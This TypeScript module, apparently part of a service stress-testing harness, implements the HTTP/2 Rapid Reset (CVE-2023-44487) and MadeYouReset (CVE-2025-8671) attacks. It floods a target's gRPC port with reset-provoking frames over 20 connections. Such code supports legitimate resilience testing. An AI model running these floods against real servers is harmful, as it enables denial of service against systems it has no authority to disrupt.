/** Streams that end at once: by the client (CVE-2023-44487), and by a server that the client provokes (CVE-2025-8671). */
import { callHeaders, END_HEADERS, END_STREAM, FRAME, http2Frame } from '../../tools/network/http2-frames.ts';
import { CHECK } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { attackInLanes, flood } from '../wire.ts';

const CONNECTIONS = 20;
/** The streams of one piece. */
const AT_ONCE = 200;
const CANCEL = Buffer.of(0, 0, 0, 8);
/** An increment of 0, a priority of 4 bytes: errors of one stream. */
const ZERO_INCREMENT = Buffer.alloc(4);
const SHORT_PRIORITY = Buffer.alloc(4);

export const rapidReset: Attack = streams('rapid-reset', 'streams that are opened and reset', (stream, headers) => [
  http2Frame(FRAME.HEADERS, END_STREAM | END_HEADERS, stream, headers),
  http2Frame(FRAME.RST_STREAM, 0, stream, CANCEL),
]);

/** The three provocations in turn. */
export const madeYouReset: Attack = streams(
  'made-you-reset',
  'streams that the service is made to reset',
  (stream, headers) => [
    http2Frame(FRAME.HEADERS, END_STREAM | END_HEADERS, stream, headers),
    [
      http2Frame(FRAME.WINDOW_UPDATE, 0, stream, ZERO_INCREMENT),
      http2Frame(FRAME.DATA, END_STREAM, stream, Buffer.alloc(1)),
      http2Frame(FRAME.PRIORITY, 0, stream, SHORT_PRIORITY),
    ][((stream - 1) / 2) % 3] ?? Buffer.alloc(0),
  ],
);

function streams(name: string, what: string, framesOf: (stream: number, headers: Buffer) => readonly Buffer[]): Attack {
  return {
    name,
    title: `${what}, on ${CONNECTIONS} connections`,
    kind: 'strangers',
    run: (target, tally) =>
      attackInLanes(target, tally, CONNECTIONS, async (lanes, index) => {
        const wire = await lanes.open({ port: target.grpcPort, address: index });
        if (wire === null) return null;
        const headers = callHeaders(CHECK);
        let stream = 1;
        await flood(lanes, wire, () => {
          const frames: Buffer[] = [];
          for (let count = 0; count < AT_ONCE; count += 1) {
            frames.push(...framesOf(stream, headers));
            stream += 2;
          }
          return { bytes: Buffer.concat(frames), count: AT_ONCE };
        });
        return wire;
      }),
  };
}
